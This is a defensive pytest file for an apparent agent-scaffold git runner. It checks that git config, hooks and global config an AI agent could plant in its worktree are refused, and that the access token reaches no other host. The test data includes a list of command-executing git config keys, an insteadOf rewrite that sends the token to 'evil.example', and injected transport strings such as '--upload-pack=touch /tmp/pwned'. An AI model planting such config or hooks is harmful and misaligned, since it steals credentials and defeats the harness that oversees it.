"""Credentialed git never executes anything an agent wrote (scaffold.git.runner).

Agents work in worktrees of the repositories scaffold fetches and pushes with a
token, so they can write the common ``.git/config`` and ``.git/hooks``. These tests
plant what an agent could, from a worktree, with real git, real hooks and a real
listener, and show the credentialed call refuses or runs without executing it, and
that the credential goes nowhere else.
"""

from __future__ import annotations

import base64
import subprocess
import time
from pathlib import Path

import pytest
from gitrepo import git, make_repo

from credtrap import Trap, evil_script, leaks
from scaffold.errors import GitError
from scaffold.git.runner import (
    audit_repo_config,
    auth_header_config,
    run_git,
    run_remote_git,
    transport_of,
)

TOKEN = "ghs_" + "Tr4pT0k3nValue" * 3
HEADER = "Authorization: Basic " + base64.b64encode(f"x-access-token:{TOKEN}".encode()).decode()
SECRETS = (TOKEN, HEADER.rpartition(" ")[2])


class Repos:
    """A bare origin, scaffold's clone of it and an agent's worktree of that clone."""

    def __init__(self, tmp: Path) -> None:
        self.tmp = tmp
        self.origin = tmp / "origin.git"
        source = make_repo(tmp / "source")
        git(tmp, "clone", "-q", "--bare", str(source), str(self.origin))
        self.clone = tmp / "clone"
        git(tmp, "clone", "-q", str(self.origin), str(self.clone))
        self.worktree = tmp / "agent-worktree"
        git(self.clone, "worktree", "add", "-q", "-b", "scaffold/task-1", str(self.worktree))
        self.common = Path(
            git(self.worktree, "rev-parse", "--path-format=absolute", "--git-common-dir")
        )
        self.evil = tmp / "evil"

    def plant(self, key: str, value: str) -> None:
        """``git config`` run in the agent's worktree: it writes the common config."""
        git(self.worktree, "config", key, value)

    def auth(self, url: str) -> tuple[tuple[str, str], ...]:
        return auth_header_config(url, HEADER)


@pytest.fixture
def repos(tmp_path: Path) -> Repos:
    return Repos(tmp_path)


def test_what_clone_and_worktrees_write_passes_the_audit(repos: Repos) -> None:
    audit_repo_config(repos.clone)
    audit_repo_config(repos.worktree)
    git(repos.clone, "checkout", "-q", "-b", "other", "--track", "origin/main")
    git(repos.clone, "config", "gc.auto", "0")
    audit_repo_config(repos.clone)


PLANTED = [
    ("core.fsmonitor", "{script}"),
    ("core.hooksPath", "{evil}"),
    ("core.sshCommand", "{script}"),
    ("core.gitProxy", "{script}"),
    ("core.askPass", "{script}"),
    ("core.pager", "{script}"),
    ("core.editor", "{script}"),
    ("core.worktree", "{evil}"),
    ("filter.lfs.clean", "{script}"),
    ("filter.x.smudge", "{script}"),
    ("filter.x.process", "{script}"),
    ("diff.x.textconv", "{script}"),
    ("diff.external", "{script}"),
    ("merge.x.driver", "{script}"),
    ("url.http://127.0.0.1:9/.insteadOf", "{origin}"),
    ("url.http://127.0.0.1:9/.pushInsteadOf", "{origin}"),
    ("include.path", "{evil}/extra.config"),
    ("includeIf.gitdir:/.path", "{evil}/extra.config"),
    ("credential.helper", "!{script}"),
    ("credential.https://github.com.helper", "{script}"),
    ("http.proxy", "http://127.0.0.1:9"),
    ("http.https://github.com/.extraheader", "X-Evil: 1"),
    ("http.sslVerify", "false"),
    ("protocol.ext.allow", "always"),
    ("remote.origin.uploadpack", "{script}"),
    ("remote.origin.receivepack", "{script}"),
    ("remote.origin.pushurl", "http://127.0.0.1:9/x.git"),
    ("remote.origin.proxy", "http://127.0.0.1:9"),
    ("remote.Origin.url", "http://127.0.0.1:9/x.git"),
    ("uploadpack.packObjectsHook", "{script}"),
    ("alias.fetch", "!{script}"),
    ("sequence.editor", "{script}"),
    ("gpg.program", "{script}"),
    ("commit.gpgSign", "true"),
    ("fetch.recurseSubmodules", "true"),
]


@pytest.mark.parametrize(("key", "value"), PLANTED, ids=[k for k, _ in PLANTED])
def test_planted_config_is_refused_by_name_never_by_value(
    repos: Repos, key: str, value: str
) -> None:
    script, marker = evil_script(repos.evil, "planted", passthrough=True)
    text = value.format(script=script, evil=repos.evil, origin=repos.origin)
    repos.plant(key, text)
    url = str(repos.origin)
    for where in (repos.clone, repos.worktree):
        with pytest.raises(GitError) as caught:
            run_remote_git(["fetch", "--quiet", url], where, url=url, auth=repos.auth(url))
        message = str(caught.value)
        assert key.lower() in message.lower()
        assert "refusing to run it" in message
        assert text not in message
    assert not marker.exists()


def test_worktree_config_files_are_audited_too(repos: Repos) -> None:
    script, marker = evil_script(repos.evil, "fsmonitor")
    git(repos.worktree, "config", "extensions.worktreeConfig", "true")
    git(repos.worktree, "config", "--worktree", "core.fsmonitor", str(script))
    planted = list(repos.common.glob("worktrees/*/config.worktree"))
    assert planted, "the agent's config.worktree was not written"
    url = str(repos.origin)
    with pytest.raises(GitError, match=r"core\.fsmonitor") as caught:
        run_remote_git(["fetch", "--quiet", url], repos.clone, url=url)
    assert str(planted[0]) in str(caught.value)
    # and the main worktree's own config.worktree
    git(repos.worktree, "config", "--worktree", "--unset", "core.fsmonitor")
    git(repos.clone, "config", "--worktree", "core.fsmonitor", str(script))
    with pytest.raises(GitError, match=r"core\.fsmonitor"):
        run_remote_git(["fetch", "--quiet", url], repos.clone, url=url)
    assert not marker.exists()


def test_a_credential_in_a_planted_key_is_not_shown(repos: Repos) -> None:
    repos.plant(
        f"url.https://x-access-token:{TOKEN}@evil.example/.insteadOf", "https://github.com/"
    )
    url = str(repos.origin)
    with pytest.raises(GitError) as caught:
        run_remote_git(["fetch", "--quiet", url], repos.clone, url=url)
    assert "insteadof" in str(caught.value)
    assert TOKEN not in str(caught.value)


def test_hooks_planted_from_a_worktree_never_run(repos: Repos) -> None:
    (repos.worktree / "work.txt").write_text("agent work\n")
    git(repos.worktree, "add", "work.txt")
    git(repos.worktree, "commit", "-q", "-m", "agent work")
    hooks = repos.common / "hooks"  # written from the worktree: shared by every worktree
    markers = []
    for name in ("pre-push", "reference-transaction", "post-checkout", "pre-auto-gc"):
        script, marker = evil_script(repos.evil, name)
        (hooks / name).write_text(script.read_text())
        (hooks / name).chmod(0o755)
        markers.append(marker)
    url = str(repos.origin)
    auth = repos.auth(url)
    run_remote_git(
        [
            "push",
            "--quiet",
            "--no-verify",
            url,
            "refs/heads/scaffold/task-1:refs/heads/scaffold/task-1",
        ],
        repos.clone,
        url=url,
        auth=auth,
    )
    run_remote_git(
        ["fetch", "--quiet", url, "+refs/heads/*:refs/remotes/origin/*"],
        repos.clone,
        url=url,
        auth=auth,
    )
    assert git(repos.origin, "rev-parse", "scaffold/task-1") == git(
        repos.worktree, "rev-parse", "HEAD"
    )
    assert [m for m in markers if m.exists()] == []

    # Control: the same push as plain git, with the token in its environment the way
    # scaffold used to pass it, runs the planted hook and hands it the header.
    git(repos.worktree, "commit", "-q", "--no-verify", "--allow-empty", "-m", "again")
    subprocess.run(
        ["git", "push", "--quiet", url, "scaffold/task-1"],
        cwd=repos.clone,
        env={
            "PATH": "/usr/bin:/bin",
            "HOME": str(repos.tmp),
            "GIT_CONFIG_COUNT": "1",
            "GIT_CONFIG_KEY_0": "http.extraheader",
            "GIT_CONFIG_VALUE_0": HEADER,
        },
        capture_output=True,
        check=False,
    )
    assert HEADER in (repos.evil / "pre-push.ran").read_text()


def test_redirecting_insteadof_is_refused_and_the_listener_gets_nothing(repos: Repos) -> None:
    with Trap() as trap, Trap() as github:
        # the real remote is an http server; the agent rewrites it to its own listener
        url = f"{github.url}/acme/widgets.git"
        repos.plant(f"url.{trap.url}/.insteadOf", f"{github.url}/")

        with pytest.raises(GitError, match="insteadof"):
            run_remote_git(["ls-remote", url], repos.clone, url=url, auth=repos.auth(url))
        assert trap.connections == 0
        assert github.connections == 0

        # Control: plain git follows the rewrite and sends the header to the listener.
        subprocess.run(
            ["git", "-c", f"http.extraheader={HEADER}", "ls-remote", url],
            cwd=repos.clone,
            capture_output=True,
            check=False,
            timeout=60,
        )
        assert HEADER.encode() in trap.received


def test_the_credential_goes_only_to_the_url_it_is_scoped_to(repos: Repos) -> None:
    with Trap() as github, Trap() as other:
        url = f"{github.url}/acme/widgets.git"
        run_remote_git(["ls-remote", url], repos.clone, url=url, auth=repos.auth(url), check=False)
        assert HEADER.encode() in github.received
        elsewhere = f"{other.url}/acme/widgets.git"
        run_remote_git(
            ["ls-remote", elsewhere], repos.clone, url=elsewhere, auth=repos.auth(url), check=False
        )
        assert other.connections == 1
        assert leaks(SECRETS, other.received) == []
        assert b"Authorization" not in other.received


def test_no_credential_helper_or_global_config_is_consulted(repos: Repos, tmp_path: Path) -> None:
    # what an agent sharing scaffold's HOME could write: global and XDG config
    script, marker = evil_script(repos.evil, "helper")
    home = tmp_path / "home"
    (home / ".config" / "git").mkdir(parents=True)
    planted = f"[credential]\n\thelper = !{script}\n"
    (home / ".gitconfig").write_text(planted)
    (home / ".config" / "git" / "config").write_text(planted)
    with Trap(status=401) as github:
        url = f"{github.url}/acme/widgets.git"
        out = run_remote_git(
            ["ls-remote", url],
            repos.clone,
            url=url,
            env={"HOME": str(home), "XDG_CONFIG_HOME": str(home / ".config")},
            check=False,
        )
        assert out.returncode != 0
        assert github.connections >= 1
        assert not marker.exists()

        # Control: plain git asks the helper the agent planted for the password.
        control = subprocess.run(
            ["git", "ls-remote", url],
            cwd=repos.clone,
            env={"PATH": "/usr/bin:/bin", "HOME": str(home), "GIT_TERMINAL_PROMPT": "0"},
            capture_output=True,
            text=True,
            check=False,
            timeout=60,
        )
        assert marker.exists(), control.stderr


def test_a_hung_remote_times_out_and_git_is_killed(repos: Repos) -> None:
    with Trap(answer=False) as hung:
        url = f"{hung.url}/acme/widgets.git"
        with pytest.raises(GitError, match="timed out after 1s") as caught:
            run_remote_git(
                ["ls-remote", url], repos.clone, url=url, auth=repos.auth(url), timeout_s=1
            )
        assert caught.value.returncode == -1
        assert TOKEN not in str(caught.value)
        # git-remote-http (a child in git's process group) is gone: the connection closed
        assert hung.closed.wait(60)


def _dead(pid: int) -> bool:
    try:
        status = Path(f"/proc/{pid}/status").read_text()
    except FileNotFoundError:
        return True
    return "State:\tZ" in status  # killed, waiting for its parent (init) to reap it


def _gone(pid: int, deadline_s: float = 10.0) -> bool:
    """Dead within ``deadline_s``: SIGKILL is delivered when the process next runs, which
    on a busy machine is a little after ``kill`` returns (a deadline, not a timing test)."""
    end = time.monotonic() + deadline_s
    while not _dead(pid):
        if time.monotonic() > end:
            return False
        time.sleep(0.01)
    return True


def test_local_calls_time_out_and_the_whole_group_is_killed(repos: Repos) -> None:
    pidfile = repos.tmp / "sleeper.pid"
    hang = f"!echo $$ > {pidfile}; exec sleep 600"
    with pytest.raises(GitError, match=r"timed out after 0\.5s"):
        run_git(["-c", f"alias.hang={hang}", "hang"], repos.clone, timeout_s=0.5)
    # the command git started (in git's process group) was killed with it
    assert _gone(int(pidfile.read_text()))


@pytest.mark.parametrize(
    ("url", "transport"),
    [
        ("https://github.com/acme/widgets.git", "https"),
        ("http://127.0.0.1:8080/git/acme/widgets.git", "http"),
        ("http://localhost/x.git", "http"),
        ("/srv/git/widgets.git", "file"),
        ("file:///srv/git/widgets.git", "file"),
    ],
)
def test_transports_credentials_may_use(url: str, transport: str) -> None:
    assert transport_of(url) == transport


@pytest.mark.parametrize(
    "url",
    [
        "http://example.com/acme/widgets.git",
        "git@github.com:acme/widgets.git",
        "ssh://git@github.com/acme/widgets.git",
        "ext::sh -c touch% /tmp/pwned",
        "git://github.com/acme/widgets.git",
        "--upload-pack=touch /tmp/pwned",
        "",
    ],
)
def test_other_transports_are_refused(url: str) -> None:
    with pytest.raises(GitError, match="refusing"):
        transport_of(url)


def test_a_worktree_removed_while_the_audit_runs_is_no_error(
    repos: Repos, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Another task's worktree may be removed between listing its ``config.worktree`` and
    reading it: the file that is gone sets nothing; one that is there is still read."""
    from scaffold.git import runner

    git(repos.worktree, "config", "extensions.worktreeConfig", "true")
    git(repos.worktree, "config", "--worktree", "gc.auto", "0")
    [planted] = repos.common.glob("worktrees/*/config.worktree")
    listed = runner.repo_config_files

    def listed_then_removed(repo: Path) -> list[Path]:
        files = listed(repo)
        git(repos.clone, "worktree", "remove", "--force", str(repos.worktree))
        return files

    monkeypatch.setattr(runner, "repo_config_files", listed_then_removed)
    audit_repo_config(repos.clone)  # no "No such file or directory"
    assert not planted.exists()
